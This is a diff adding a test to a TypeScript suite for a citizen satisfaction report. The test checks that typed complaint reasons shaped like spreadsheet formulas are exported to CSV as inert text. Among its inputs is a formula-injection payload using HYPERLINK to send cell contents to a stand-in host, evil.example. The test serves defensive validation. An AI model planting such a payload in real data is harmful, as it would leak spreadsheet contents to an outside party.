@@ -78,6 +78,28 @@ describe('the satisfaction report: dossiers and tickets', () => {
     expect(data.satisfiedShare).toBe(0.5);
   });
 
+  it('a typed reason that looks like a formula is exported as text, never as a live formula', async () => {
+    const follows = new DossierFollows(app.redis, app.keys);
+    const reasons = ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', '+84 905', '-1+2', '@SUM(A1:A9)', '\tchờ lâu', '\rchờ lâu', 'chờ lâu = mất công'];
+    for (const [i, reason] of reasons.entries()) {
+      const code = `000.00.20.H47-261127-09${String(i).padStart(2, '0')}`;
+      const citizen = userId();
+      await follows.grant(citizen, code);
+      await follows.follow(citizen, code);
+      await follows.rate(citizen, { code, procedureCode: '1.001193', level: 'dissatisfied' });
+      await follows.addReason(citizen, code, reason);
+    }
+    const csv = (await axios.get(`${api}/ratings?format=csv`, admin)).data as string;
+    const reasonOf = (i: number) => new RegExp(`^"000\\.00\\.20\\.H47-261127-09${String(i).padStart(2, '0')}","1\\.001193","dissatisfied","([^]*?)",`, 'm').exec(csv)?.[1];
+    expect(reasonOf(0)).toBe(`'=HYPERLINK(""http://evil.example/?""&A1,""Xem"")`);
+    expect(reasonOf(1)).toBe("'+84 905");
+    expect(reasonOf(2)).toBe("'-1+2");
+    expect(reasonOf(3)).toBe("'@SUM(A1:A9)");
+    expect(reasonOf(4)).toBe("'\tchờ lâu");
+    expect(reasonOf(5)).toBe("'\rchờ lâu");
+    expect(reasonOf(6)).toBe('chờ lâu = mất công');
+  });
+
   it('the period bounds ticket ratings as it does dossier ratings; bad input 400, no token 401', async () => {
     const { citizen, id } = await closedTicket('Đồng Tràm Tây');
     await press(citizen, `#q:tk:r:${id}:satisfied`, /Cảm ơn bạn đã đánh giá/);
